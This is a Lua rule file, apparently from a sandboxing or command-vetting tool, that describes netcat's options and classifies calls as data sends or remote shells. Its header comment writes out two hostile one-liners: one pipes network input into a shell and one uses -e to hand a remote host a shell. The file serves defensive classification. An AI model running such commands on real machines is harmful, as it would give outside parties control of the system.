--- nc (of OpenBSD, and the traditional one): what another machine sends is printed.
--    nc h 80 | sh              runs what comes in
--    nc -e sh h 80             lets the other machine run a program here

local function brings(call) return not call:has("-z", "-h") end

return {
  command = "nc",
  also = "nc.openbsd nc.traditional netcat",
  examples = {
    ["nc -l 80 > f"] = "nc -l 80 > SANDBOX/f",
    ["nc -z h 80"] = true,
    ["echo GET | nc -w 3 h 80 > f && cat f"] =
      "echo GET | nc -w 3 h 80 > SANDBOX/f && cat SANDBOX/f",
  },
  grammar = { "posix", permute = true },
  options = {
    flag = "-4 -6 -b -C -D -d -F -h -k -l -N -n -r -S -t -U -u -v -Z -z",
    value = "-c -e -g -G -I -i -M -m -O -P -p -q -s -T -V -W -w -X -x",
    fetch = "-o",
  },
  operands = "host? port...",
  brings = brings,
  lands = { { stdout = true } },
  does = function(call)
    local remote = call:has("-c", "-e") and { kind = "remote_shell" } or nil
    return { brings(call) and { kind = "send" } or remote, brings(call) and remote or nil }
  end,
  inspect = function(call)
    for _, text in ipairs(call:values("-x")) do
      if not text or not text:find("^[^/]+:%d+$") then
        return nil, "-x may be a proxy or a file, in another nc"
      end
    end
    return true
  end,
}
